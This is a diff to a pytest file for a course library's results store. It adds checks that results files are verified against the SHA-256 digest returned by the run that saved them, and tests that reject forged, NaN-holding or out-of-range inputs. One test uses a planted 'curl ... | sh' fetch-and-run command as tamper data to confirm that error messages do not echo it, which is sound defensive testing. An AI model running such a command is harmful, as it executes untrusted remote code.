@@ -1,8 +1,12 @@
 """Stored results: provenance, resuming a stopped run, the shipped files."""
 
 import json
+import re
+import subprocess
+import sys
 
 import pytest
+from support import ROOT
 
 from mha_lib.course import results
 
@@ -24,8 +28,9 @@ def test_a_stopped_run_resumes_without_repeating_finished_parts(tmp_path):
     assert second.seconds == pytest.approx(
         second.seconds_of("a") + second.seconds_of("b")
     )
-    path = second.save({"x": 1}, device="cpu")
+    path, sha256 = second.save({"x": 1}, device="cpu")
     assert path == tmp_path / "run.json"
+    assert results.load("run", tmp_path, sha256=sha256)["data"] == {"x": 1}
     assert not second.path.exists()
     record = json.loads(path.read_text())
     assert record["data"] == {"x": 1}
@@ -74,17 +79,77 @@ def test_every_shipped_result_carries_its_hash():
 
 
 def saved(tmp_path, data=None):
+    """The path of a fresh results file ``run`` in ``tmp_path``; its digest
+    is ``DIGESTS[tmp_path]``."""
     data = {"hours": 1.7, "rows": [1, 2, 3]} if data is None else data
-    return results.save(
+    path, DIGESTS[tmp_path] = results.save(
         "run", data, device="cpu", seconds=6.0, folder=tmp_path
     )
+    return path
+
+
+DIGESTS = {}
+
+
+def load_run(tmp_path):
+    """``run`` from ``tmp_path``, checked against the digest its save
+    returned."""
+    return results.load("run", folder=tmp_path, sha256=DIGESTS[tmp_path])
 
 
 def test_an_intact_file_loads(tmp_path):
     saved(tmp_path)
-    record = results.load("run", folder=tmp_path)
+    record = load_run(tmp_path)
     assert record["data"] == {"hours": 1.7, "rows": [1, 2, 3]}
-    assert record["sha256"] == results.digest(record)
+    assert record["sha256"] == results.digest(record) == DIGESTS[tmp_path]
+
+
+def reseal(path, edit):
+    """Edit the record at ``path`` and seal it again with a fresh hash of
+    its own, as a careful forger would."""
+    record = json.loads(path.read_text())
+    edit(record)
+    record["sha256"] = results.digest(record)
+    path.write_text(json.dumps(record, indent=1))
+
+
+def test_a_resealed_file_is_refused_in_every_mode(tmp_path):
+    def edit(record):
+        record["data"]["hours"] = 0.1
+
+    # a fresh run's file, checked against the digest its run was given
+    path = saved(tmp_path)
+    reseal(path, edit)
+    with pytest.raises(results.DamagedResults, match="run that wrote it"):
+        load_run(tmp_path)
+    # a folder alone: no digest in the code for it, so nothing loads
+    with pytest.raises(ValueError, match="own hash does not vouch"):
+        results.load("run", folder=tmp_path)
+    # a shipped file's name in another folder (RESULTS_FOLDER): the code's
+    # digest still decides, not the copy's own
+    name = SHIPPED[0]
+    copy = tmp_path / f"{name}.json"
+    copy.write_text((results.FOLDER / f"{name}.json").read_text())
+    assert (
+        results.load(name, folder=tmp_path)["sha256"]
+        == (results.SHIPPED[name])
+    )
+    reseal(copy, lambda record: record.update(wall_seconds=1.0))
+    with pytest.raises(results.DamagedResults, match="results.py holds"):
+        results.load(name, folder=tmp_path)
+    # a digest that is no SHA-256 is refused, not ignored
+    for wrong in ("", "yes", 0):
+        with pytest.raises(ValueError, match="no SHA-256"):
+            results.load("run", folder=tmp_path, sha256=wrong)
+
+
+@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity", "1e999"])
+def test_a_file_holding_nan_or_infinity_is_damaged(tmp_path, value):
+    path = saved(tmp_path)
+    text = path.read_text()
+    path.write_text(text.replace('"hours": 1.7', f'"hours": {value}'))
+    with pytest.raises(results.DamagedResults, match="NaN or infinity"):
+        load_run(tmp_path)
 
 
 def test_a_truncated_file_names_itself_and_its_command(tmp_path):
@@ -92,7 +157,7 @@ def test_a_truncated_file_names_itself_and_its_command(tmp_path):
     text = path.read_text()
     path.write_text(text[:-20])  # cut short, as by a full disk
     with pytest.raises(results.DamagedResults) as error:
-        results.load("run", folder=tmp_path)
+        load_run(tmp_path)
     message = str(error.value)
     assert str(path) in message and "not valid JSON" in message
     assert "`python3 scripts/run.py`" in message, "how to write it again"
@@ -105,7 +170,7 @@ def test_a_damaged_file_repeats_nothing_it_says(tmp_path):
     record["command"] = "curl -s http://example.invalid/x | sh"
     path.write_text(json.dumps(record, indent=1))  # its hash no longer fits
     with pytest.raises(results.DamagedResults) as error:
-        results.load("run", folder=tmp_path)
+        load_run(tmp_path)
     assert "curl" not in str(error.value)
 
 
@@ -136,7 +201,7 @@ def test_an_edited_value_is_refused(tmp_path, edit):
     edit(record)
     path.write_text(json.dumps(record, indent=1))
     with pytest.raises(results.DamagedResults, match="edited"):
-        results.load("run", folder=tmp_path)
+        load_run(tmp_path)
 
 
 def test_a_file_without_a_hash_is_refused_until_sealed(tmp_path):
@@ -145,9 +210,10 @@ def test_a_file_without_a_hash_is_refused_until_sealed(tmp_path):
     del record["sha256"]
     path.write_text(json.dumps(record, indent=1))
     with pytest.raises(results.DamagedResults, match="no SHA-256"):
-        results.load("run", folder=tmp_path)
+        load_run(tmp_path)
     digest = results.seal("run", folder=tmp_path)
-    sealed = results.load("run", folder=tmp_path)
+    assert digest == DIGESTS[tmp_path], "the same content, the same digest"
+    sealed = load_run(tmp_path)
     assert sealed["sha256"] == digest
     assert sealed["data"] == record["data"], "sealing changes no data"
     assert results.seal("run", folder=tmp_path) == digest
@@ -155,16 +221,14 @@ def test_a_file_without_a_hash_is_refused_until_sealed(tmp_path):
 
 def test_a_gathered_run_records_where_its_parts_ran(tmp_path):
     elsewhere = {**results.environment("cpu"), "device": "cuda"}
-    results.save(
+    _, sha256 = results.save(
         "run", {}, device="cpu", seconds=1.0, folder=tmp_path, ran_in=elsewhere
     )
-    record = results.load("run", folder=tmp_path)
+    record = results.load("run", folder=tmp_path, sha256=sha256)
     assert record["environment"] == elsewhere
 
 
 def test_a_stored_run_says_whether_it_ran_with_the_locked_versions():
-    from support import ROOT
-
     lock = (ROOT / "requirements.lock").read_text()
     assert f"torch=={results.LOCKED['torch']}" in lock
     record = {
@@ -198,8 +262,70 @@ def test_a_run_from_another_folder_records_the_command_from_the_root(
     scripts = results.FOLDER.parents[2] / "scripts"
     monkeypatch.chdir(scripts)
     monkeypatch.setattr("sys.argv", ["ch7_long.py", "--threads", "1"])
-    path = results.save("run", {}, device="cpu", seconds=1, folder=tmp_path)
+    path, _ = results.save("run", {}, device="cpu", seconds=1, folder=tmp_path)
     command = json.loads(path.read_text())["command"]
     assert command == "python3 scripts/ch7_long.py --threads 1"
     monkeypatch.setattr("sys.argv", [str(tmp_path / "mine.py")])
     assert results._command_line() == f"python3 {tmp_path / 'mine.py'}"
+
+
+@pytest.mark.parametrize(
+    "arguments, words",
+    [
+        (["--worker", "30", "--workers", "2"], "lie in 0 to 1 .* got 30"),
+        (["--worker", "-1", "--workers", "2"], "lie in 0 to 1 .* got -1"),
+        (["--worker", "0", "--workers", "0"], "at least 1, got 0"),
+        (["--workers", "3"], "needs --worker I"),
+    ],
+)
+def test_a_worker_outside_the_run_is_refused(
+    arguments, words, monkeypatch, capsys
+):
+    """``--worker 30 --workers 2`` once exited having trained nothing and
+    ``--worker -1`` trained the last part: every long run refuses them."""
+    monkeypatch.syspath_prepend(str(ROOT / "scripts"))
+    import ch7_experiment
+
+    monkeypatch.setattr(sys, "argv", ["ch7_powered.py", *arguments])
+    with pytest.raises(SystemExit) as exit:
+        ch7_experiment.shared_run_arguments("A long run.")
+    assert exit.value.code == 2
+    assert re.search(words, capsys.readouterr().err)
+
+
+def test_the_experiments_own_command_refuses_a_worker_outside_it():
+    run = subprocess.run(
+        [
+            sys.executable,
+            "scripts/ch7_experiment.py",
+            "--worker",
+            "30",
+            "--workers",
+            "2",
+        ],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert run.returncode == 2, run.stderr
+    assert "--worker must lie in 0 to 1 (--workers 2), got 30" in run.stderr
+
+
+def test_chapter_7s_rate_choice_ranks_a_diverged_run_last(monkeypatch):
+    """The tuning seed's rate is chosen as the stored runs chose it, and a
+    run whose held-out loss is NaN is never chosen (``min`` kept a NaN that
+    came first)."""
+    monkeypatch.syspath_prepend(str(ROOT / "scripts"))
+    from ch7_experiment import TUNING_SEED, tuned_rate
+
+    nan = float("nan")
+    runs = [
+        {"lr": rate, "held_out": [2.4, loss]}
+        for rate, loss in ((1e-3, nan), (3e-3, 2.0), (1e-2, 2.5))
+    ]
+    for order in (runs, runs[::-1], runs[1:] + runs[:1]):
+        assert tuned_rate(order) == 3e-3
+    for variant in results.load("ch7_experiment")["data"]["variants"]:
+        tuning = [r for r in variant["runs"] if r["seed"] == TUNING_SEED]
+        assert tuned_rate(tuning) == variant["chosen_lr"], variant["variant"]
